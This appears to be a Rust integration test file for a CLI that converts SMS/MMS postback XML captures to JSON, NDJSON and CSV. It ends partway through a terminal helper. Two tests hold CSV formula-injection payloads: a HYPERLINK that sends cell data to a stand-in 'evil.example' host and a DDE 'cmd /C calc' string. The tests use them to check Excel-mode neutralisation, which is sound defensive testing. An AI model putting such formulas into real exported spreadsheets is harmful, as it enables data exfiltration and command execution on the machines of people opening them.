//! `postback convert` end to end: the real binary on fixtures, one behaviour per test.

mod common;

use std::fs;

use common::{exec, exec_stdin, fixture, root, Run, PROVIDER_EXAMPLES};
use serde_json::{json, Value};

const FORMATS: [&str; 3] = ["json", "ndjson", "csv"];

/// An N003 without its required MMSID: a `missing-field` error.
const MISSING_MMSID: &str = "<POSTBACK><ORIGIN>MMS_MT</ORIGIN><CODE>N003</CODE></POSTBACK>\n";

/// A run as a snapshot shows it: status, stdout, stderr.
fn shown(run: &Run) -> String {
    format!(
        "status: {}\n--- stdout\n{}--- stderr\n{}",
        run.status, run.stdout, run.stderr
    )
}

/// The NDJSON lines of a run, parsed.
fn objects(run: &Run) -> Vec<Value> {
    run.stdout
        .lines()
        .map(|line| {
            serde_json::from_str(line).unwrap_or_else(|e| panic!("not JSON: {line:?}: {e}{run}"))
        })
        .collect()
}

/// CSV output parsed back with the csv crate: the header, then the rows.
fn table(csv_text: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let header = reader
        .headers()
        .expect("a header row")
        .iter()
        .map(String::from)
        .collect();
    let rows = reader
        .records()
        .map(|r| r.expect("a CSV row").iter().map(String::from).collect())
        .collect();
    (header, rows)
}

/// The cell of `column` in `row`.
fn cell<'r>(header: &[String], row: &'r [String], column: &str) -> &'r str {
    let i = header
        .iter()
        .position(|h| h == column)
        .unwrap_or_else(|| panic!("no column {column}"));
    &row[i]
}

fn temp() -> tempfile::TempDir {
    tempfile::tempdir().expect("a temporary directory")
}

#[test]
fn every_provider_example_in_every_format() {
    for example in PROVIDER_EXAMPLES {
        let path = format!("tests/fixtures/{example}");
        let stem = example
            .trim_start_matches("provider/")
            .trim_end_matches(".xml");
        for format in FORMATS {
            let run = exec(&["convert", "--to", format, &path]);
            // The N201 example is not well-formed (`<FROM_MASK><FROM_MASK>`): rejected, exit 1.
            let expected = if stem == "n201" { 1 } else { 0 };
            assert_eq!(run.status, expected, "{run}");
            insta::assert_snapshot!(format!("provider_{stem}_{format}"), shown(&run));
        }
    }
}

#[test]
fn counts_add_up_on_a_mixed_dump() {
    let run = exec(&[
        "convert",
        "--to",
        "ndjson",
        "tests/fixtures/convert/mixed.log",
    ]);
    assert_eq!(run.status, 1, "a record could not be converted{run}");
    assert_eq!(objects(&run).len(), 4, "{run}");
    // 7 `<POSTBACK` starts; the DOCTYPE document holds one, refused with it.
    assert!(
        run.stderr
            .ends_with("4 converted, 0 skipped, 3 rejected, from 1 input\n"),
        "{run}"
    );
    insta::assert_snapshot!("mixed_ndjson", shown(&run));
}

#[test]
fn rejected_records_are_reported_with_their_location() {
    let run = exec(&["convert", "--to", "csv", "tests/fixtures/convert/mixed.log"]);
    let findings: Vec<&str> = run
        .stderr
        .lines()
        .filter(|l| l.contains("error["))
        .collect();
    assert_eq!(
        findings,
        [
            "tests/fixtures/convert/mixed.log:4:75: error[malformed-xml]: <CODE> is never closed: </POSTBACK> comes first",
            "tests/fixtures/convert/mixed.log:6:32: error[malformed-xml]: <POSTBACK> is never closed",
            "tests/fixtures/convert/mixed.log:9:1: error[doctype]: document has a DOCTYPE: refused, its entities neither expanded nor fetched",
        ],
        "{run}"
    );
}

#[test]
fn rejects_file_receives_exactly_the_raw_text_of_rejected_records() {
    let dir = temp();
    let rejects = dir.path().join("rejects.txt");
    let run = exec(&[
        "convert",
        "--to",
        "ndjson",
        "tests/fixtures/convert/mixed.log",
        "--rejects",
        rejects.to_str().unwrap(),
    ]);
    assert_eq!(run.status, 1, "{run}");
    let dump = common::fixture_text("convert/mixed.log");
    let malformed = dump.lines().nth(3).unwrap();
    let malformed = &malformed[malformed.find("<POSTBACK").unwrap()..];
    // A record that never closes runs up to the next `<POSTBACK`.
    let cut_off_start = dump
        .find("<POSTBACK><ORIGIN>SMS_MT</ORIGIN><CODE>N201")
        .unwrap();
    let next = cut_off_start + dump[cut_off_start + 1..].find("<POSTBACK").unwrap() + 1;
    let cut_off = &dump[cut_off_start..next];
    let doctype_start = dump.find("<!DOCTYPE").unwrap();
    let doctype_end = dump.rfind("</POSTBACK>").unwrap() + "</POSTBACK>".len();
    let doctype = &dump[doctype_start..doctype_end];
    let expected = format!("{malformed}\n{cut_off}\n{doctype}\n");
    assert_eq!(fs::read_to_string(&rejects).unwrap(), expected);

    // The rejects file is itself a capture: converting it rejects the same records.
    let again = exec(&["convert", "--to", "ndjson", rejects.to_str().unwrap()]);
    assert_eq!(again.stdout, "", "{again}");
    assert!(
        again
            .stderr
            .ends_with("0 converted, 0 skipped, 3 rejected, from 1 input\n"),
        "{again}"
    );
}

#[test]
fn rejects_file_is_empty_when_nothing_is_rejected() {
    let dir = temp();
    let rejects = dir.path().join("rejects.txt");
    let run = exec(&[
        "convert",
        "--to",
        "csv",
        "tests/fixtures/provider/n202.xml",
        "--rejects",
        rejects.to_str().unwrap(),
    ]);
    assert_eq!(run.status, 0, "{run}");
    assert_eq!(fs::read(&rejects).unwrap(), b"");
}

#[test]
fn oversized_records_are_counted_and_reported_but_have_no_text_to_keep() {
    let dir = temp();
    let rejects = dir.path().join("rejects.txt");
    let big = format!(
        "<POSTBACK><ORIGIN>MMS_MT</ORIGIN><CODE>N003</CODE><MMSID>{}</MMSID></POSTBACK>\n\
         <POSTBACK><ORIGIN>MMS_MT</ORIGIN><CODE>N003</CODE><MMSID>1</MMSID></POSTBACK>\n",
        "7".repeat(300 * 1024)
    );
    let run = exec_stdin(
        &[
            "convert",
            "--to",
            "ndjson",
            "--max-record-size",
            "256K",
            "--rejects",
            rejects.to_str().unwrap(),
        ],
        big,
    );
    assert_eq!(run.status, 1, "{run}");
    assert_eq!(objects(&run).len(), 1, "{run}");
    assert!(
        run.stderr.contains("<stdin>:1:1: error[oversized-record]"),
        "{run}"
    );
    assert!(
        run.stderr.contains("1 converted, 0 skipped, 1 rejected"),
        "{run}"
    );
    assert_eq!(fs::read(&rejects).unwrap(), b"");
}

#[test]
fn valid_only_skips_postbacks_with_errors_and_counts_them() {
    let run = exec(&[
        "convert",
        "--to",
        "ndjson",
        "--valid-only",
        "tests/fixtures/convert/mixed.log",
    ]);
    let codes: Vec<Value> = objects(&run).iter().map(|o| o["CODE"].clone()).collect();
    assert_eq!(
        codes,
        [json!("N202"), json!("E002"), json!("N003")],
        "{run}"
    );
    assert!(
        run.stderr
            .ends_with("3 converted, 1 skipped, 3 rejected, from 1 input\n"),
        "{run}"
    );
    // Skipping is asked for: only the rejected records make the exit status 1.
    assert_eq!(run.status, 1, "{run}");
    let clean = exec_stdin(&["convert", "--to", "csv", "--valid-only"], MISSING_MMSID);
    assert_eq!(clean.status, 0, "{clean}");
    assert!(
        clean.stderr.contains("0 converted, 1 skipped, 0 rejected"),
        "{clean}"
    );
}

#[test]
fn postbacks_with_validation_errors_are_still_converted() {
    let run = exec_stdin(&["convert", "--to", "ndjson"], MISSING_MMSID);
    assert_eq!(run.status, 0, "{run}");
    assert_eq!(
        objects(&run),
        [json!({"ORIGIN": "MMS_MT", "CODE": "N003"})],
        "{run}"
    );
}

#[test]
fn csv_header_is_the_documented_default_columns() {
    let run = exec(&["convert", "--to", "csv", "tests/fixtures/provider/n003.xml"]);
    assert_eq!(
        run.lines()[0],
        "ORIGIN,CODE,STATUS,SENTAS,MMSID,FROM,FROM_MASK,TO,TRACKINGID,SPID,TIMESTAMP,AGGREGATORID,HANDSET,OS,STATUSDETAILS,AUDIONAME,VIDEONAME,EXTRA"
    );
}

#[test]
fn extra_round_trips_unknown_and_repeated_fields() {
    let ndjson = exec(&[
        "convert",
        "--to",
        "ndjson",
        "tests/fixtures/convert/extra.xml",
    ]);
    let object = &objects(&ndjson)[0];
    let csv = exec(&["convert", "--to", "csv", "tests/fixtures/convert/extra.xml"]);
    let (header, rows) = table(&csv.stdout);
    let row = &rows[0];
    // A repeated field keeps its first value in its column and its full list in EXTRA.
    assert_eq!(cell(&header, row, "STATUS"), "Message Sent/Delivered");
    let extra: Value = serde_json::from_str(cell(&header, row, "EXTRA")).unwrap();
    assert_eq!(
        extra,
        json!({
            "STATUS": ["Message Sent/Delivered", "Message Sent/Expired"],
            "Status": "delivered",
            "CARRIER_NOTE": "line one\r\nline two, \"quoted\" — ünïcödé ✓",
        })
    );
    // Every value of the NDJSON object is in the CSV: in its column or in EXTRA.
    for (name, value) in object.as_object().unwrap() {
        match extra.get(name) {
            Some(in_extra) => assert_eq!(in_extra, value, "{name}"),
            None => assert_eq!(Some(cell(&header, row, name)), value.as_str(), "{name}"),
        }
    }
    // Values are exact: untrimmed, entities and CDATA decoded.
    assert_eq!(object["TO"], " 16501112222 ");
    assert_eq!(object["HANDSET"], "moto <l7c> & \"friends\"");
    assert_eq!(object["AGGREGATORID"], "11529-<64807>");
    insta::assert_snapshot!("extra_csv", csv.stdout);
}

#[test]
fn extra_is_empty_when_every_field_has_a_column() {
    let run = exec(&[
        "convert",
        "--to",
        "csv",
        "tests/fixtures/provider/n102-binary.xml",
    ]);
    let (header, rows) = table(&run.stdout);
    assert_eq!(cell(&header, &rows[0], "EXTRA"), "");
    assert_eq!(cell(&header, &rows[0], "OS"), "iOS");
}

#[test]
fn fields_pick_the_columns_and_extra_only_when_listed() {
    let run = exec(&[
        "convert",
        "--to",
        "csv",
        "--fields",
        "TRACKINGID,STATUS,Status",
        "tests/fixtures/convert/extra.xml",
    ]);
    assert_eq!(
        run.stdout, "TRACKINGID,STATUS,Status\nTU1TXzU5Nzg3OQ==,Message Sent/Delivered,delivered\n",
        "{run}"
    );

    let run = exec(&[
        "convert",
        "--to",
        "csv",
        "--fields",
        "CODE,EXTRA",
        "tests/fixtures/convert/n401.xml",
    ]);
    let (header, rows) = table(&run.stdout);
    assert_eq!(header, ["CODE", "EXTRA"]);
    let extra: Value = serde_json::from_str(&rows[1][1]).unwrap();
    assert_eq!(
        extra["CONTENT"],
        json!({"FILE": ["https://example.com/mms/2/image.jpg"]})
    );
    assert_eq!(extra["ORIGIN"], "MMS_MO");
    assert!(
        extra.get("CODE").is_none(),
        "CODE has its own column: {extra}"
    );
}

#[test]
fn fields_is_for_csv_and_must_name_each_column_once() {
    for args in [
        &["convert", "--to", "json", "--fields", "CODE"][..],
        &["convert", "--to", "csv", "--fields", "CODE,,TO"][..],
        &["convert", "--to", "csv", "--fields", "CODE,CODE"][..],
    ] {
        let mut args = args.to_vec();
        args.push("tests/fixtures/provider/n003.xml");
        let run = exec(&args);
        assert_eq!(run.status, 2, "{run}");
        assert_eq!(run.stdout, "", "{run}");
        assert!(run.stderr.contains("--fields"), "{run}");
    }
}

#[test]
fn n401_content_is_an_object_holding_an_array_of_files() {
    let run = exec(&[
        "convert",
        "--to",
        "ndjson",
        "tests/fixtures/convert/n401.xml",
    ]);
    let objects = objects(&run);
    assert_eq!(
        objects[0]["CONTENT"],
        json!({"FILE": ["https://example.com/mms/1/image.jpg", "https://example.com/mms/1/text.txt"]})
    );
    // Always an array, even for one file: the shape never depends on the data.
    assert_eq!(
        objects[1]["CONTENT"],
        json!({"FILE": ["https://example.com/mms/2/image.jpg"]})
    );
    let json = exec(&["convert", "--to", "json", "tests/fixtures/convert/n401.xml"]);
    insta::assert_snapshot!("n401_json", json.stdout);
}

#[test]
fn json_keeps_document_order() {
    let run = exec(&[
        "convert",
        "--to",
        "json",
        "tests/fixtures/convert/extra.xml",
    ]);
    let keys: Vec<&str> = [
        "ORIGIN",
        "CODE",
        "SENTAS",
        "STATUS",
        "MMSID",
        "FROM",
        "TO",
        "TRACKINGID",
        "SPID",
    ]
    .into_iter()
    .collect();
    let positions: Vec<usize> = keys
        .iter()
        .map(|k| run.stdout.find(&format!("\"{k}\":")).unwrap())
        .collect();
    assert!(positions.windows(2).all(|w| w[0] < w[1]), "{run}");
}

#[test]
fn json_array_is_valid_with_no_records_and_with_rejected_ones() {
    let empty = exec_stdin(&["convert", "--to", "json"], "no postbacks here\n");
    assert_eq!(
        (empty.status, empty.stdout.as_str()),
        (0, "[]\n"),
        "{empty}"
    );
    assert!(
        empty
            .stderr
            .ends_with("0 converted, 0 skipped, 0 rejected, from 1 input\n"),
        "{empty}"
    );

    let mixed = exec(&[
        "convert",
        "--to",
        "json",
        "tests/fixtures/convert/mixed.log",
    ]);
    let array: Value = serde_json::from_str(&mixed.stdout).expect("one JSON array");
    assert_eq!(array.as_array().unwrap().len(), 4);
    assert!(
        mixed.stdout.starts_with("[{") && mixed.stdout.ends_with("}]\n"),
        "{mixed}"
    );
    assert_eq!(mixed.stdout.matches(",\n").count(), 3, "{mixed}");
}

#[test]
fn csv_with_no_records_is_just_the_header() {
    let run = exec_stdin(&["convert", "--to", "csv", "--fields", "CODE,TO"], "");
    assert_eq!(run.stdout, "CODE,TO\n", "{run}");
}

#[test]
fn excel_mode_neutralises_formula_like_cells() {
    let run = exec(&[
        "convert",
        "--to",
        "csv",
        "--excel",
        "tests/fixtures/convert/formulas.xml",
    ]);
    assert_eq!(run.status, 0, "{run}");
    let text = run.stdout.strip_prefix('\u{feff}').expect("a UTF-8 BOM");
    assert!(
        text.ends_with("\r\n") && !text.replace("\r\n", "").contains('\n'),
        "CRLF rows{run}"
    );
    let (header, rows) = table(text);
    let row = &rows[0];
    assert_eq!(
        cell(&header, row, "STATUS"),
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    );
    assert_eq!(cell(&header, row, "FROM"), "'+60856");
    assert_eq!(cell(&header, row, "TO"), "'-16503333058");
    assert_eq!(cell(&header, row, "TRACKINGID"), "'@SUM(1+1)");
    assert_eq!(cell(&header, row, "SPID"), "'\t=1+2");
    assert_eq!(cell(&header, row, "AGGREGATORID"), "'\r=cmd|' /C calc'!A0");
    // A cell that merely contains `=` is left alone.
    assert_eq!(cell(&header, row, "STATUSDETAILS"), "a = b, not a formula");
    assert_eq!(cell(&header, row, "ORIGIN"), "SMS_MT");
}

#[test]
fn default_csv_is_exact() {
    let run = exec(&[
        "convert",
        "--to",
        "csv",
        "tests/fixtures/convert/formulas.xml",
    ]);
    assert!(
        !run.stdout.starts_with('\u{feff}') && !run.stdout.contains("\r\n"),
        "{run}"
    );
    let (header, rows) = table(&run.stdout);
    let row = &rows[0];
    assert_eq!(
        cell(&header, row, "STATUS"),
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    );
    assert_eq!(cell(&header, row, "TO"), "-16503333058");
    assert_eq!(cell(&header, row, "SPID"), "\t=1+2");
    assert_eq!(cell(&header, row, "AGGREGATORID"), "\r=cmd|' /C calc'!A0");
}

#[test]
fn excel_is_for_csv_only() {
    let run = exec(&[
        "convert",
        "--to",
        "ndjson",
        "--excel",
        "tests/fixtures/provider/n003.xml",
    ]);
    assert_eq!(run.status, 2, "{run}");
    assert!(run.stderr.contains("--excel"), "{run}");
    assert_eq!(run.stdout, "");
}

#[test]
fn output_format_is_inferred_from_the_extension() {
    let dir = temp();
    for (name, check) in [
        (
            "out.json",
            (|t: &str| t.starts_with("[{")) as fn(&str) -> bool,
        ),
        ("out.ndjson", |t| {
            t.starts_with("{\"ORIGIN\"") && t.lines().count() == 2
        }),
        ("out.jsonl", |t| {
            t.starts_with("{\"ORIGIN\"") && t.lines().count() == 2
        }),
        ("OUT.CSV", |t| t.starts_with("ORIGIN,CODE,")),
    ] {
        let path = dir.path().join(name);
        let run = exec(&[
            "convert",
            "tests/fixtures/convert/n401.xml",
            "-o",
            path.to_str().unwrap(),
        ]);
        assert_eq!(run.status, 0, "{run}");
        assert_eq!(run.stdout, "", "{run}");
        let text = fs::read_to_string(&path).unwrap();
        assert!(check(&text), "{name}: {text}");
    }
}

#[test]
fn to_wins_over_the_extension() {
    let dir = temp();
    let path = dir.path().join("out.json");
    let run = exec(&[
        "convert",
        "--to",
        "csv",
        "tests/fixtures/provider/n003.xml",
        "-o",
        path.to_str().unwrap(),
    ]);
    assert_eq!(run.status, 0, "{run}");
    assert!(fs::read_to_string(&path).unwrap().starts_with("ORIGIN,"));
}

#[test]
fn no_format_is_a_usage_error_that_says_what_to_do() {
    let dir = temp();
    let txt = dir.path().join("out.txt");
    for args in [
        vec!["convert", "tests/fixtures/provider/n003.xml"],
        vec![
            "convert",
            "tests/fixtures/provider/n003.xml",
            "-o",
            txt.to_str().unwrap(),
        ],
    ] {
        let run = exec(&args);
        assert_eq!(run.status, 2, "{run}");
        assert!(
            run.stderr.contains("--to json") && run.stderr.contains(".csv"),
            "{run}"
        );
    }
    assert!(
        !txt.exists(),
        "nothing is created before the arguments are understood"
    );
}

#[test]
fn output_file_is_truncated_and_errors_name_it() {
    let dir = temp();
    let path = dir.path().join("out.ndjson");
    fs::write(
        &path,
        "old content that is much longer than the new one\n".repeat(100),
    )
    .unwrap();
    let run = exec(&[
        "convert",
        "tests/fixtures/provider/n003.xml",
        "-o",
        path.to_str().unwrap(),
    ]);
    assert_eq!(run.status, 0, "{run}");
    assert_eq!(
        fs::read_to_string(&path).unwrap(),
        "{\"ORIGIN\":\"MMS_MT\",\"CODE\":\"N003\",\"MMSID\":\"35674\"}\n"
    );

    let missing = dir.path().join("no/such/dir/out.csv");
    let run = exec(&[
        "convert",
        "tests/fixtures/provider/n003.xml",
        "-o",
        missing.to_str().unwrap(),
    ]);
    assert_eq!(run.status, 2, "{run}");
    assert!(
        run.stderr.contains("cannot create") && run.stderr.contains("out.csv"),
        "{run}"
    );
}

#[test]
fn an_output_never_overwrites_an_input() {
    let dir = temp();
    let input = dir.path().join("capture.csv");
    fs::copy(fixture("provider/n003.xml"), &input).unwrap();
    let before = fs::read(&input).unwrap();
    let run = exec(&[
        "convert",
        input.to_str().unwrap(),
        "-o",
        input.to_str().unwrap(),
    ]);
    assert_eq!(run.status, 2, "{run}");
    assert!(run.stderr.contains("also an input"), "{run}");
    assert_eq!(fs::read(&input).unwrap(), before);
}

#[cfg(target_os = "linux")]
#[test]
fn a_full_disk_is_reported_with_exit_2() {
    let run = exec(&[
        "convert",
        "--to",
        "csv",
        "tests/fixtures/provider/n003.xml",
        "-o",
        "/dev/full",
    ]);
    assert_eq!(run.status, 2, "{run}");
    assert!(
        run.stderr.contains("/dev/full") && run.stderr.contains("No space left"),
        "{run}"
    );

    // The same through standard output.
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_postback"))
        .current_dir(root())
        .args([
            "convert",
            "--to",
            "ndjson",
            "tests/fixtures/provider/n003.xml",
        ])
        .stdout(
            fs::OpenOptions::new()
                .write(true)
                .open("/dev/full")
                .unwrap(),
        )
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("No space left"), "{stderr}");

    // And into the rejects file.
    let run = exec(&[
        "convert",
        "--to",
        "csv",
        "tests/fixtures/provider/n201.xml",
        "--rejects",
        "/dev/full",
    ]);
    assert_eq!(run.status, 2, "{run}");
    assert!(run.stderr.contains("/dev/full"), "{run}");
}

#[test]
fn a_closed_pipe_ends_quietly() {
    // Enough output to overflow any pipe buffer, so the writer meets the closed pipe.
    let dir = temp();
    let dump = dir.path().join("dump.log");
    let record = common::fixture_text("provider/n102-binary.xml");
    fs::write(&dump, record.repeat(5000)).unwrap();
    for format in FORMATS {
        let (status, stderr) = common::head_1(&["convert", "--to", format, dump.to_str().unwrap()]);
        assert_eq!(status, Some(0), "{format}: {stderr}");
        assert_eq!(stderr, "", "{format}: no message, not even a summary");
    }
}

#[test]
fn a_closed_pipe_exits_with_the_status_of_what_was_written() {
    // Rejected records all along: status 1 only if one was reported before the pipe closed.
    let dir = temp();
    let dump = dir.path().join("dump.log");
    fs::write(
        &dump,
        common::fixture_text("convert/mixed.log").repeat(5000),
    )
    .unwrap();
    for format in FORMATS {
        let (status, stderr) = common::head_1(&["convert", "--to", format, dump.to_str().unwrap()]);
        let reported = stderr.contains("error[");
        assert_eq!(
            status,
            Some(if reported { 1 } else { 0 }),
            "{format}: {stderr}"
        );
        assert!(
            !stderr.contains("converted"),
            "{format}: no summary: {stderr}"
        );
        assert!(
            !stderr.to_lowercase().contains("broken pipe"),
            "{format}: {stderr}"
        );
    }
}

#[test]
fn output_is_the_same_for_any_number_of_jobs() {
    // Over 1 MiB, so that the input is cut into batches spread over workers.
    let dir = temp();
    let dump = dir.path().join("dump.log");
    fs::write(
        &dump,
        common::fixture_text("convert/mixed.log").repeat(3000),
    )
    .unwrap();
    let dump = dump.to_str().unwrap();
    for format in FORMATS {
        let runs: Vec<(Run, Vec<u8>)> = ["1", "3"]
            .iter()
            .map(|jobs| {
                let rejects = dir.path().join(format!("rejects-{format}-{jobs}.txt"));
                let run = exec(&[
                    "convert",
                    "--to",
                    format,
                    "-j",
                    jobs,
                    "--rejects",
                    rejects.to_str().unwrap(),
                    dump,
                ]);
                (run, fs::read(&rejects).unwrap())
            })
            .collect();
        let (one, rejects_one) = &runs[0];
        let (three, rejects_three) = &runs[1];
        assert_eq!(one.status, 1, "{one}");
        assert!(one
            .stderr
            .ends_with("12000 converted, 0 skipped, 9000 rejected, from 1 input\n"));
        assert!(
            one.stdout == three.stdout,
            "{format}: stdout differs between -j 1 and -j 3"
        );
        assert!(
            one.stderr == three.stderr,
            "{format}: stderr differs between -j 1 and -j 3"
        );
        assert!(rejects_one == rejects_three, "{format}: rejects differ");
    }
}

#[test]
fn an_unreadable_input_is_reported_and_the_rest_converted() {
    let run = exec(&[
        "convert",
        "--to",
        "ndjson",
        "tests/fixtures/provider/n003.xml",
        "no-such-file.xml",
    ]);
    assert_eq!(run.status, 2, "{run}");
    assert_eq!(objects(&run).len(), 1, "{run}");
    assert!(run.stderr.contains("no-such-file.xml"), "{run}");
    assert!(
        run.stderr.ends_with(
            "1 converted, 0 skipped, 0 rejected, from 1 input; 1 input could not be read\n"
        ),
        "{run}"
    );
}

#[test]
fn quiet_drops_the_summary_but_not_the_findings() {
    let run = exec(&[
        "convert",
        "--to",
        "csv",
        "-q",
        "tests/fixtures/convert/mixed.log",
    ]);
    assert_eq!(run.status, 1, "{run}");
    assert_eq!(run.stderr.lines().count(), 3, "{run}");
    assert!(!run.stderr.contains("converted"), "{run}");
}

#[test]
fn embedded_postbacks_are_converted_like_any_other() {
    let run = exec(&[
        "convert",
        "--to",
        "ndjson",
        "tests/fixtures/convert/embedded.log",
    ]);
    assert_eq!(run.status, 0, "{run}");
    assert_eq!(
        objects(&run),
        [
            json!({"ORIGIN": "MMS_MT", "CODE": "N003", "MMSID": "35674", "NOTE": "tab\there, quote \" and é"}),
            json!({"ORIGIN": "MMS_MT", "CODE": "E002", "MMSID": "1", "VIDEONAME": "a b&c.mp4"}),
        ],
        "{run}"
    );
}

#[test]
fn elements_nested_too_deep_are_rejected_not_crashed_on() {
    let deep = format!(
        "<POSTBACK><ORIGIN>MMS_MT</ORIGIN><CODE>N003</CODE>{}{}</POSTBACK>\n",
        "<A>".repeat(100),
        "</A>".repeat(100)
    );
    let shallow = "<POSTBACK><ORIGIN>MMS_MT</ORIGIN><CODE>N003</CODE><A><B>x</B></A></POSTBACK>\n";
    let run = exec_stdin(&["convert", "--to", "ndjson"], format!("{deep}{shallow}"));
    assert_eq!(run.status, 1, "{run}");
    assert_eq!(
        objects(&run),
        [json!({"ORIGIN": "MMS_MT", "CODE": "N003", "A": {"B": "x"}})],
        "{run}"
    );
    assert!(
        run.stderr.contains(
            "<stdin>:1:243: error[nested-element]: <A> is nested more than 64 levels deep"
        ),
        "{run}"
    );
    assert!(
        run.stderr.contains("1 converted, 0 skipped, 1 rejected"),
        "{run}"
    );
}

#[test]
fn help_explains_excel_rejects_and_fields() {
    let run = exec(&["convert", "--help"]);
    assert_eq!(run.status, 0);
    let help = run.stdout.split_whitespace().collect::<Vec<_>>().join(" ");
    for needle in [
        "ALTERS",
        "output is exact",
        "followed by a newline",
        "EXTRA is written only if listed",
        "Examples:",
    ] {
        assert!(help.contains(needle), "{needle}{run}");
    }
}

/// Two postbacks, the second indented on line 3 after noise, for `--with-source`.
const TWO_PLACES: &str =
    "<POSTBACK><ORIGIN>SMS_MT</ORIGIN><CODE>N003</CODE></POSTBACK>\nnoise\n  <POSTBACK><CODE>N201</CODE></POSTBACK>\n";

#[test]
fn with_source_adds_source_line_column_offset_after_the_fields() {
    let dir = temp();
    let path = dir.path().join("two.log");
    fs::write(&path, TWO_PLACES).unwrap();
    let path = path.to_str().unwrap();
    for to in ["ndjson", "json"] {
        let run = exec(&["convert", "--to", to, "--with-source", path]);
        assert_eq!(run.status, 0, "{run}");
        let rows: Vec<Value> = match to {
            "json" => serde_json::from_str::<Vec<Value>>(&run.stdout).unwrap(),
            _ => objects(&run),
        };
        assert_eq!(
            rows,
            [
                json!({"ORIGIN": "SMS_MT", "CODE": "N003", "source": path, "line": 1, "column": 1, "offset": 0}),
                json!({"CODE": "N201", "source": path, "line": 3, "column": 3, "offset": 70}),
            ],
            "{run}"
        );
        // After the fields, in this order.
        assert!(
            run.stdout.contains(&format!(
                r#""CODE":"N201","source":{path:?},"line":3,"column":3,"offset":70}}"#
            )),
            "{run}"
        );
        assert_eq!(&TWO_PLACES[70..80], "<POSTBACK>");
    }
    let plain = exec(&["convert", "--to", "ndjson", path]);
    assert!(!plain.stdout.contains("\"source\""), "{plain}");
}

#[test]
fn with_source_appends_four_csv_columns_after_the_stable_ones() {
    let run = exec_stdin(&["convert", "--to", "csv", "--with-source"], TWO_PLACES);
    assert_eq!(run.status, 0, "{run}");
    let (header, rows) = table(&run.stdout);
    let stable = "ORIGIN,CODE,STATUS,SENTAS,MMSID,FROM,FROM_MASK,TO,TRACKINGID,SPID,TIMESTAMP,AGGREGATORID,HANDSET,OS,STATUSDETAILS,AUDIONAME,VIDEONAME,EXTRA";
    assert_eq!(header[..18].join(","), stable, "{run}");
    assert_eq!(
        header[18..],
        ["source", "line", "column", "offset"],
        "{run}"
    );
    assert_eq!(rows[1][18..], ["<stdin>", "3", "3", "70"], "{run}");
    let picked = exec_stdin(
        &[
            "convert",
            "--to",
            "csv",
            "--with-source",
            "--fields",
            "CODE",
        ],
        TWO_PLACES,
    );
    assert_eq!(
        picked.stdout, "CODE,source,line,column,offset\nN003,<stdin>,1,1,0\nN201,<stdin>,3,3,70\n",
        "{picked}"
    );
}

#[test]
fn with_source_never_hides_a_field_of_the_same_name() {
    let run = exec_stdin(
        &["convert", "--to", "ndjson", "--with-source"],
        "<postback><origin>SMS_MT</origin><code>N201</code><source>web</source><line>7</line></postback>\n",
    );
    assert_eq!(
        run.stdout,
        r##"{"origin":"SMS_MT","code":"N201","source":"web","line":"7","#source":"<stdin>","#line":1,"column":1,"offset":0}"##
            .to_string()
            + "\n",
        "{run}"
    );
}

#[test]
fn with_source_points_an_embedded_postback_at_its_value() {
    let line = r#"{"t":1,"body":"<POSTBACK><CODE>N201</CODE></POSTBACK>"}"#;
    let run = exec_stdin(
        &["convert", "--to", "ndjson", "--with-source"],
        format!("{line}\n"),
    );
    let row = &objects(&run)[0];
    let offset = row["offset"].as_u64().unwrap() as usize;
    assert_eq!(&line[offset..offset + 2], "\"<", "{run}");
    assert_eq!(row["column"].as_u64(), Some(offset as u64 + 1), "{run}");
}

#[test]
fn fields_with_a_name_neither_documented_nor_read_is_a_usage_error_with_a_suggestion() {
    let run = exec(&[
        "convert",
        "--to",
        "csv",
        "--fields",
        "TRAKINGID,STATUS",
        "tests/fixtures/provider/n003.xml",
    ]);
    assert_eq!(run.status, 2, "{run}");
    assert!(
        run.stderr.contains("TRAKINGID (did you mean TRACKINGID?)"),
        "{run}"
    );
    // CSV columns are v1.3 names whatever the dialect: a lower-case or v2
    // spelling never fills one, even from a record of that dialect.
    let run = exec_stdin(
        &["convert", "--to", "csv", "--fields", "code,sent-as"],
        "<postback><origin>MMS_MT</origin><code>N102</code><sent-as>MMS</sent-as></postback>\n",
    );
    assert_eq!(run.status, 2, "{run}");
    assert!(run.stderr.contains("code (did you mean CODE?)"), "{run}");
    assert!(
        run.stderr.contains("sent-as (did you mean SENTAS?)"),
        "{run}"
    );
}

#[test]
fn fields_accepts_v1_names_extra_text_and_names_in_the_data() {
    for fields in [
        "CODE,SENTAS,FROM_MASK,EXTRA,#text",
        "CODE,Status,CARRIER_NOTE",
    ] {
        let run = exec(&[
            "convert",
            "--to",
            "csv",
            "--fields",
            fields,
            "tests/fixtures/convert/extra.xml",
        ]);
        assert_eq!(run.status, 0, "{fields}: {run}");
    }
}

#[test]
fn fields_with_an_unknown_name_leaves_the_previous_output_file() {
    let dir = temp();
    let out = dir.path().join("out.csv");
    fs::write(&out, "previous\n").unwrap();
    let run = exec(&[
        "convert",
        "--fields",
        "CODE,NOPE_NOT_A_FIELD",
        "tests/fixtures/provider/n003.xml",
        "-o",
        out.to_str().unwrap(),
    ]);
    assert_eq!(run.status, 2, "{run}");
    assert!(run.stderr.contains("NOPE_NOT_A_FIELD"), "{run}");
    assert_eq!(fs::read_to_string(&out).unwrap(), "previous\n");
}

/// `postback ARGS` with its standard output on a pseudo-terminal, as a person
/// at a terminal runs it: what the terminal receives.
fn on_a_terminal(args: &[&str]) -> String {
    use std::io::Read;
    use std::os::fd::{FromRawFd, OwnedFd};
    let (mut master, mut slave) = (0, 0);
    // SAFETY: openpty writes two descriptors into the integers given and
    // reads the null name, termios and window size as "none".
    let opened = unsafe {
        libc::openpty(
            &mut master,
            &mut slave,
            std::ptr::null_mut(),
            std::ptr::null(),
            std::ptr::null(),
        )
    };
    assert_eq!(opened, 0, "a pseudo-terminal opens");
    // SAFETY: both descriptors were just opened and are owned here alone.
    let (master, slave) = unsafe { (OwnedFd::from_raw_fd(master), OwnedFd::from_raw_fd(slave)) };
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_postback"))
        .current_dir(root())
        .args(args)
        .env("NO_COLOR", "1")
